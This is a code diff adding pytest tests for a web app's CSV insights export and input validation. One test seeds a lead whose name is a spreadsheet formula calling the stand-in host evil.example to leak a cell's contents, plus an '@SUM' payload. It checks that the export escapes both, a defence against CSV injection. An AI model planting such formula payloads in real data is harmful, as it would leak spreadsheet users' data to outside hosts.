@@ -271,3 +271,25 @@ def test_the_insights_need_the_dags_runs_as_the_review_queue_does():
     assert routes.router.dependencies == review.router.dependencies == security.READ_RUNS
     paths = {route.path for route in create_app().routes}
     assert {"/dags/{dag_id}/insights", "/dags/{dag_id}/insights/{name}.csv"} <= paths
+
+
+def test_a_name_or_title_written_as_a_formula_is_text_in_the_csv_and_a_phone_stays_a_phone(client, sqlite_warehouse):
+    """A lead form lets anyone name themselves ``=HYPERLINK(...)``: the export must not hand a spreadsheet
+    a formula (OWASP CSV injection); an E.164 phone keeps its ``+``."""
+    with sqlite_warehouse.begin() as conn:
+        evil = add_person(conn, '=HYPERLINK("http://evil.example/?x="&A2) Lead', status="ghl_only", ghl_id="g-evil",
+                          phone="+15550109999")
+        add_activity(conn, evil, "task", "@SUM(1+1) call back", NOW - timedelta(days=1), "open")
+    rows = list(csv.reader(io.StringIO(client.get(f"/dags/{DAG}/insights/one_side.csv").text)))
+    row = next(r for r in rows if any("HYPERLINK" in cell for cell in r))
+    assert all(not cell.startswith(("=", "@", "-")) for cell in row), row
+    assert "+15550109999" in row and any(cell.startswith("'=HYPERLINK(") for cell in row)
+    overdue = client.get(f"/dags/{DAG}/insights/overdue.csv").text
+    assert "'@SUM(1+1) call back" in overdue
+
+
+@pytest.mark.parametrize("query", [{"page": 10**20}, {"q": "pat\x00"}])
+def test_a_page_past_any_integer_or_a_nul_in_the_search_is_a_422_not_a_500(client, query):
+    for path in (f"/dags/{DAG}/insights", f"/dags/{DAG}/people", f"/api/dags/{DAG}/people"):
+        answer = client.get(path, params=query, headers={"Accept": "application/json"})
+        assert answer.status_code == 422, (path, answer.status_code, answer.text[:300])
